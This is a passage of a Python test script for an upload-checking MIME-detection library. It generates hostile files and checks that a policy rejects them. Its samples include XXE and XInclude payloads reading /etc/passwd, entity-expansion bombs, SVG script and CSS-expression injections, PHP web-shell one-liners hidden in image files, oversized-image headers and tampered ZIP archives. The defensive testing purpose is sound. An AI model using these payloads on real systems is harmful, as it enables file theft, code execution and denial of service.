    places = {"a tag of an MP3": ("audio/mpeg", b"ID3\3\0\0\0\0\1\x7a" + tag + mp3()[20:])}
    comment = struct.pack("<I", 1) + b"x" + struct.pack("<II", 1, len(text)) + text
    info = flac()
    for kind, data in (4, comment), (1, text), (2, b"abcd" + text), (126, text):
        block = bytes([kind]) + struct.pack(">I", len(data))[1:] + data
        places[f"the block {kind} of a FLAC"] = "audio/flac", info[:4] + b"\0" + info[5:42] + b"\x81" + block[1:] + info[42:]
    for kind in (b"JUNK", b"bext", b"abcd"):
        places[f"the chunk {kind.decode()} of a WAV"] = "audio/vnd.wave", riff(
            b"WAVE", (b"fmt ", struct.pack("<HHIIHH", 1, 1, 8000, 16000, 2, 16)), (kind, text), (b"data", bytes(99)))
    places["the samples of a WAV"] = "audio/vnd.wave", riff(
        b"WAVE", (b"fmt ", struct.pack("<HHIIHH", 1, 1, 8000, 16000, 2, 16)), (b"data", text * 3))
    for kind in (b"free", b"udta", b"mdat", b"uuid"):
        places[f"the box {kind.decode()} of an MP4"] = "video/mp4", mp4() + box(kind, text)
    void = b"\xec" + bytes([0x80 | min(len(text), 120)]) + text[:120]
    places["an empty element of a WebM"] = "video/webm", webm() + void
    return places


def sizes():
    """Images whose later pages, frames and parts have more pixels than are allowed."""
    wide = struct.pack("<HH", 0xFFFF, 0xFFFF)
    frame = b"\x2c\0\0\0\0" + wide + b"\0\2\1\x44\0"
    yield "large frame of a GIF", "image/gif", "a.gif", gif()[:-1] + frame + b"\x3b", None
    page = struct.pack("<H", 2) + struct.pack("<HHIIHHII", 256, 4, 1, 99999, 257, 4, 1, 99999) + bytes(4)
    data = tiff()
    yield "large page of a TIFF", "image/tiff", "a.tiff", data[:118] + struct.pack("<I", len(data)) + data[122:] + page, None
    yield "large PNG in an icon", "image/vnd.microsoft.icon", "a.ico", ico().replace(png(), png(9, 9)[:16] + struct.pack(">II", 99999, 99999) + png(9, 9)[24:]), None
    size = b"\0" * 4 + struct.pack(">II", 99999, 99999)
    item = box(b"meta", bytes(4) + box(b"iprp", box(b"ipco", box(b"ispe", size))))
    yield "large item of a HEIC", "image/heic", "a.heic", box(b"ftyp", b"heic\0\0\0\0mif1heic") + box(b"free", bytes(70000)) + item, None
    header = struct.pack(">IIHBBBB", 99999, 99999, 3, 7, 7, 0, 0)[:14]
    yield "large JPEG 2000", "image/jp2", "a.jp2", box(b"jP  ", b"\r\n\x87\n") + box(b"ftyp", b"jp2 \0\0\0\0jp2 ") + box(
        b"jp2h", box(b"ihdr", header)) + box(b"jp2c", b"\xff\x4f\xff\x51"), None
    yield "large PPM", "image/x-portable-pixmap", "a.ppm", b"P6\n99999 99999\n255\n" + bytes(99), None


def disagreements():
    """ZIP archives whose headers state something else than their directory."""
    good = archive(("first.txt", "words " * 9), ("second.txt", "words " * 9))
    second = good.index(b"PK\3\4", 4)
    for name, place, value in (("name", 30, b"F"), ("packing", 8, b"\0"), ("packed size", 18, b"\1"), ("size", 22, b"\1"), ("encryption", 6, b"\1")):
        for start in (0, second):
            yield f"another {name} at {start}", "application/zip", "a.zip", good[: start + place] + value + good[start + place + 1 :], None
    for name, place in (("disk", -18), ("disk of the directory", -16), ("entries of the disk", -14)):
        yield f"another {name}", "application/zip", "a.zip", good[:place] + b"\5" + good[len(good) + place + 1 :], None
    hidden = archive(("hidden.txt", "x"))
    between = {"an entry": hidden[: hidden.index(b"PK\1\2")], "a program": elf(), "a PDF": pdf(), "PHP": PAYLOADS["php"]()}
    for name, gap in between.items():
        directory = good.index(b"PK\1\2")
        end = good[-22:-6] + struct.pack("<I", directory + len(gap)) + good[-2:]
        label = "quoted" if name == "PHP" else None
        yield f"{name} before the directory", "application/zip", "a.zip", good[:directory] + gap + good[directory:-22] + end, label


def styles():
    inner = ["behavior:url(#x)", "width:expression(1)", "-moz-binding:url(#x)", "fill:url(javascript:x)", "w:\\65xpression(1)", "w:exp/**/ression(1)"]
    for style in inner:
        yield f"{style} in a style", "image/svg+xml", "a.svg", svg(f"<style>a{{{style}}}</style>".encode()), None
        yield f"{style} in an attribute", "image/svg+xml", "a.svg", svg(f'<g style="{style}"/>'.encode()), None
    for name in ("@import url(http://e.example/x.css);", "a{fill:url(http://e.example/x)}"):
        yield f"{name} in a style", "image/svg+xml", "a.svg", svg(f"<style>{name}</style>".encode()), "links"
    for tag in (b"<g onload=alert(1)>", b"<iframe srcdoc='x'/>"):
        yield f"{tag} in a drawing", "image/svg+xml", "a.svg", svg(tag), None


def markup():
    """XML whose declarations are written with numbers, or hidden from a search, and tags with handlers."""
    file, space = "file:///etc/passwd", "http://www.w3.org/2001/XInclude"
    include = f'<xi:include href="{file}" parse="text"/>'
    texts = {
        "declaration in a parameter": f'''<!DOCTYPE x [<!ENTITY % a "&#60;!ENTITY e SYSTEM '{file}'>"> %a;]><x>&e;</x>''',
        "quotes by numbers": f'''<!DOCTYPE x [<!ENTITY % a "<!ENTITY e SYSTEM &#39;{file}&#39;>"> %a;]><x>&e;</x>''',
        "address by numbers": f'''<!DOCTYPE x [<!ENTITY % a "<!ENTITY e SYSTEM '{file.replace("/", "&#47;")}'>"> %a;]><x>&e;</x>''',
        "inclusion in an entity": f'''<!DOCTYPE x [<!ENTITY e "&#60;xi:include xmlns:xi='{space}' href='{file}'/>">]><x>&e;</x>''',
        "inclusion by a default": f'<!DOCTYPE x [<!ATTLIST x xml:base CDATA "file:///etc/">]><x xmlns:xi="{space}"><xi:include href="passwd"/></x>',
        "inclusion behind a comment in an instruction": f'<x xmlns:xi="{space}"><?a <!-- ?>{include}</x>',
        "inclusion behind a section in an instruction": f'<x xmlns:xi="{space}"><?a <![CDATA[ ?>{include}</x>',
        "inclusion behind a comment in an entity": f'<!DOCTYPE x [<!ENTITY q "<!--">]><x xmlns:xi="{space}">{include}</x>',
        "long entity behind a comment": f'''<!DOCTYPE x [<!-- <!ENTITY a ""> --><!ENTITY a "{"A" * 60000}">]><x>{"&a;" * 3000}</x>''',
        "long entity behind a parameter": f'''<!DOCTYPE x [<!ENTITY % a "x"><!ENTITY a "{"A" * 60000}">]><x>{"&a;" * 3000}</x>''',
        "entities that multiply by numbers": '<!DOCTYPE x [<!ENTITY a0 "' + "A" * 1000 + '">' + "".join(
            f'<!ENTITY a{i} "' + f"&#38;a{i - 1};" * 10 + '">' for i in range(1, 8)) + "]><x>&a7;</x>",
    }
    for name, text in texts.items():
        yield f"{name} in XML", "application/xml", "a.xml", text.encode(), None
    for tag in ("<svg><animate onbegin=alert(1) attributeName=x>", "<image src=x onerror=alert(1)>", "<video src=x onerror=alert(1)>", "<style onload=alert(1)></style>",
                "<input autofocus onfocus=alert(1)>"):
        for place, (kind, data) in _in_images(tag.encode()).items():
            yield f"{tag} in {place}", kind, None, data, None


def expressions():
    """PHP that starts with `<?=`."""
    common = ["system($_GET[0]);", "`$_GET[0]`", "exec('id')", "$_GET[0]($_GET[1])", "eval($_POST[0])", "include $_GET[0]"]
    unusual = ['"system"("id");', 'match(1){1=>system("id")};', '(string)system("id");', "print`id`;", "('sys'.'tem')('id');", '["system"][0]("id");', "<<<A\n{${system('id')}}\nA;",
               '(function(){return system("id");})();', '"{${system("id")}}";', "__LINE__.`id`;", '.5 .system("id");', '0xor system("id");']
    for text in common + unusual:
        yield f"<?={text}", "image/png", "a.png", png_text(f"<?={text} ?>".encode()), "unusual" if text in unusual else None
    code = "/* <?php system('id'); ?> */\n"
    yield "PHP in XBM", "image/x-xbitmap", "a.xbm", f"#define x_width 8\n#define x_height 1\nstatic char x_bits[] = {{\n 0x00 }};\n{code}".encode(), "text images"
    yield "PHP in XPM", "image/x-xpixmap", "a.xpm", f'/* XPM */\nstatic char *x[] = {{\n"1 1 1 1",\n"a c #000000",\n"a"\n}};\n{code}'.encode(), "text images"


def check_article():
    """Ends the program if the article lacks a sentence that explains something."""
    path = pathlib.Path(__file__).parents[3] / "Sources/MIMEDetection/MIMEDetection.docc/CheckingUploads.md"
    article = " ".join(path.read_text().split())
    for sentence in EXPLAINED.values():
        if sentence not in article:
            sys.exit(f"the article doesn't say '{sentence}'")


def main(library):
    os.environ["MIMETYPE_LIBRARY"] = library
    from judging import Policy
    check_article()
    policies, total, faults, explained = {}, 0, [], {}
    for group in (tails, ends, inside, polyglots, documents, drawings, offices, hidden, archives, names, texts,
                  free_bytes, sizes, disagreements, styles, readers_pdf.attacks, readers_archives.attacks,
                  readers_office.attacks, markup, expressions):
        for attack, kind, name, data, label in group():
            total += 1
            policy = policies.setdefault(kind, Policy([kind]))
            if not policy.bytes(data, name)["ok"]:
                continue
            if label:
                explained.setdefault(label, []).append(attack)
            else:
                faults.append((f"{group.__module__}.{group.__name__}", attack))
    accepted = sum(map(len, explained.values())) + len(faults)
    print(f"{total} attacks, {accepted} accepted, {len(faults)} of them without a reason in the article")
    for label, attacks in explained.items():
        print(f"| {len(attacks)} | {EXPLAINED[label]} | {attacks[0]} |")
    for group, attack in faults:
        print(f"FAULT {group}: {attack}")
    return 1 if faults else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1]) if len(sys.argv) == 2 else __doc__)
